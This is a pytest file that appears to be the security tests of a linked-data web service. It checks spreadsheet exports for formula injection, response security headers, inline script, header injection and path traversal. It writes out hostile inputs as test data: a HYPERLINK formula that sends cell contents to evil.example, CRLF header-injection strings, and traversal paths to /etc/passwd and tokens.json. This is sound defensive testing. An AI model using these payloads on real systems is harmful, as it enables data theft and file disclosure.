"""What our answers could do to who opens them: in a spreadsheet, in a browser."""

from __future__ import annotations

import csv
import http.client
import io
import math
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from conftest import BEARER, TOKEN, UPDATE, Server, running
from mieco.present.spreadsheet_csv import BOM, for_spreadsheets, harmless, write_csv

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"深圳")'
SHENZHEN = "/id/consortium/shenzhen"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.fixture(scope="module")
def poisoned(few_directory: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A service whose data name a consortium, its members and more by formulas."""
    folder = shutil.copytree(few_directory, tmp_path_factory.mktemp("poisoned") / "data")
    text = f"""
        DELETE {{ GRAPH ?g {{ ?thing rdfs:label ?name }} }}
        INSERT {{ GRAPH ?g {{ ?thing rdfs:label ?poison }} }}
        WHERE {{
          GRAPH ?g {{ ?thing rdfs:label ?name ; a ?class }}
          FILTER (STRSTARTS(STR(?g), "https://w3id.org/mieco/graph/data/"))
          BIND (STRLANG({FORMULA!r}, LANG(?name)) AS ?poison) FILTER (LANG(?name) != "")
        }}"""
    prefix = "PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#> "
    with running("--data", str(folder), MIECO_TOKEN=TOKEN) as server:
        made = server.post("/update?clashes=accept", prefix + text, UPDATE, **BEARER)
        assert made.status == 204, made.text
        yield server


def sheets(server: Server) -> Iterator[str]:
    """Addresses of tables, without their format."""
    yield f"{SHENZHEN.replace('/id/', '/doc/')}?"
    yield "/questions/q01?consortium=shenzhen&"
    yield "/questions/q02?"
    yield f"/members?of=https://w3id.org/mieco{SHENZHEN}&"
    yield "/compare?of=shenzhen&of=changzhou-new-energy&"
    yield "/provinces?"
    yield "/readiness?"
    yield "/links?"


def test_no_table_has_a_formula(poisoned: Server) -> None:
    met = poisoned_cells = 0
    for target in sheets(poisoned):
        for more in ("", "&bom=1"):
            reply = poisoned.get(f"{target}format=csv{more}")
            if reply.status == 404 or "csv" not in reply.headers.get_content_type():
                continue
            met += 1
            cells = [c for row in csv.reader(io.StringIO(reply.text.lstrip(BOM))) for c in row]
            assert not [cell for cell in cells if cell.startswith(DANGEROUS) and not number(cell)]
            poisoned_cells += sum(FORMULA in cell for cell in cells)
        book = poisoned.get(f"{target}format=xlsx")
        if book.headers.get_content_type().endswith("sheet"):
            met += 1
            for sheet in load_workbook(io.BytesIO(book.body)):
                for row in sheet.iter_rows():
                    assert all(cell.data_type != "f" for cell in row)
                    poisoned_cells += sum(FORMULA in str(cell.value) for cell in row)
    assert met >= 10
    assert poisoned_cells >= 10


def number(text: str) -> bool:
    try:
        return math.isfinite(float(text)) and "_" not in text and text.isascii()
    except ValueError:
        return False


def test_sparql_csv_is_exact_for_programs_and_harmless_for_spreadsheets(poisoned: Server) -> None:
    query = (
        f'SELECT ?a ?b ?c {{ VALUES (?a ?b ?c) {{ ({FORMULA!r} -5 "-5+1") (UNDEF "a\\nb" "") }} }}'
    )
    exact = poisoned.get("/sparql", query=query, format="csv").text
    assert list(csv.reader(io.StringIO(exact))) == [
        ["a", "b", "c"],
        [FORMULA, "-5", "-5+1"],
        ["", "a\nb", ""],
    ]
    safe = poisoned.get("/sparql", query=query, format="csv", bom="1").text
    assert safe.startswith(BOM)
    assert list(csv.reader(io.StringIO(safe.lstrip(BOM)))) == [
        ["a", "b", "c"],
        [f"'{FORMULA}", "-5", "'-5+1"],
        ["", "a\nb", ""],
    ]


@given(st.text(max_size=12))
def test_a_text_is_a_formula_no_more_and_else_as_it_was(text: str) -> None:
    told = harmless(text)
    assert isinstance(told, str)
    assert not told.startswith(DANGEROUS) or number(told)
    assert told in (text, f"'{text}")
    assert (told == text) == (not text.startswith(DANGEROUS) or number(text))


CELLS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\r\0"))
TABLES = st.lists(st.lists(CELLS, min_size=2, max_size=2), max_size=5)


@given(TABLES, st.integers(1, 9))
def test_however_it_is_cut_into_pieces(table: list[list[str]], size: int) -> None:
    out = io.StringIO()
    csv.writer(out).writerows([["a", "b"], *table])
    whole = out.getvalue().encode()
    pieces = [whole[at : at + size] for at in range(0, len(whole), size)]
    told = b"".join(for_spreadsheets(pieces)).decode()
    assert told == BOM + write_csv(["a", "b"], table)


@pytest.mark.parametrize(
    "cell", ["-" + "1" * 900_000 + "+A1", "=" + "x" * 900_000, "x\n" * 400_000]
)
def test_a_huge_cell_is_marked_as_it_passes(cell: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([cell, "-5"])
    whole = out.getvalue().encode()
    pieces = [whole[at : at + 4096] for at in range(0, len(whole), 4096)]
    told = b"".join(for_spreadsheets(pieces)).decode()
    mark = "'" if cell.startswith(DANGEROUS) else ""
    assert harmless(cell) == mark + cell
    assert told.lstrip(BOM) == out.getvalue().replace(cell[:2], mark + cell[:2], 1)
    # What other readers of CSV take is theirs to say.
    assert csv.field_size_limit() == 131_072


# ---------------------------------------------------------------------------- browsers


@pytest.mark.parametrize(
    "path",
    [
        *("/", "/import", "/session", "/sparql", "/questions/q01", "/nowhere", SHENZHEN, "/map"),
        "/sparql?query=ASK%20%7B%7D&format=xml",
        "/sparql?query=CONSTRUCT%20WHERE%20%7B%3Fa%20%3Fb%20%3Fc%7D%20LIMIT%201&format=rdf",
        "/sparql?query=ASK%20%7B%7D&format=json",
        *("/health", "/openapi.json", "/sitemap.xml", "/static/mieco.css"),
    ],
)
def test_the_headers_of_every_answer(server: Server, path: str) -> None:
    for accept in ("text/html", "*/*"):
        reply = server.get(path, accept)
        told = reply.headers
        assert told["X-Content-Type-Options"] == "nosniff"
        assert told["Referrer-Policy"] in ("no-referrer", "same-origin")
        assert told["Cross-Origin-Opener-Policy"] == "same-origin"
        assert "geolocation=()" in told["Permissions-Policy"]
        assert told["Server"] in (None, "granian")
        kind = told.get_content_type()
        if kind == "text/html" or kind.endswith("xml"):
            policy = told["Content-Security-Policy"]
            assert "default-src 'none'" in policy
            assert "unsafe" not in policy
            assert "frame-ancestors 'none'" in policy
            assert told["X-Frame-Options"] == "DENY"


def test_pages_have_nothing_inline(server: Server) -> None:
    for path in ("/", "/sparql", "/questions/q01", "/compare", "/map", "/import", "/admin"):
        page = server.get(path, "text/html").text
        assert not re.search(r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/)", page), path
        assert not re.search(r"\son[a-z]+=\"", page), path
        assert not re.search(r"\sstyle=\"", page), path
        assert "javascript:" not in page


def test_https_only_where_the_base_is_https(few_directory: Path, tmp_path: Path) -> None:
    folder = shutil.copytree(few_directory, tmp_path / "data")
    with running("--data", str(folder), MIECO_BASE="https://data.example.org") as one:
        told = one.get("/health").headers["Strict-Transport-Security"]
        assert told == "max-age=31536000"


def test_plain_http_promises_nothing(server: Server) -> None:
    assert "Strict-Transport-Security" not in server.get("/health").headers


@pytest.mark.parametrize(
    "value", ["a\r\nSet-Cookie: x=1", "a\nX: y", "a\rX: y", "%0d%0aX: y", "a\x00b", "\u2028X: y"]
)
def test_no_header_can_be_made_by_a_parameter(server: Server, value: str) -> None:
    for path, name in (
        ("/questions/q01", "consortium"),
        ("/search", "q"),
        ("/questions/q01", "lang"),
        ("/import", "next"),
        ("/session", "next"),
        ("/sparql", "format"),
    ):
        reply = server.get(path, "text/html", **{name: value})
        assert reply.status < 500
        assert not {"X", "x"} & set(reply.headers.keys())
        assert "x=1" not in "".join(reply.headers.get_all("Set-Cookie") or [])


@pytest.mark.parametrize(
    "path",
    [
        "/static/../web/serve.py",
        "/static/..%2f..%2fsettings.py",
        "/static/%2e%2e/%2e%2e/settings.py",
        "/static//etc/passwd",
        "/download/../../tokens.json",
        "/download/1/snapshot/..%2f..%2ftokens.json",
        "/download/1/snapshot/../../tokens.json",
        "/download/1/snapshot//etc/passwd",
        "/import/..%2f..%2ftokens.json",
        "/ontology/..%2f..%2fsettings.py",
        "/changes/..%2f1",
    ],
)
def test_no_path_leads_out(server: Server, path: str) -> None:
    host = server.url.removeprefix("http://")
    connection = http.client.HTTPConnection(host)
    connection.request("GET", path)  # urllib would tidy the path
    reply = connection.getresponse()
    body = reply.read()
    connection.close()
    assert reply.status in (301, 302, 303, 308, 400, 403, 404, 406), path
    for told in (b"root:", b"sha256", b"import "):
        assert told not in body or reply.status >= 400
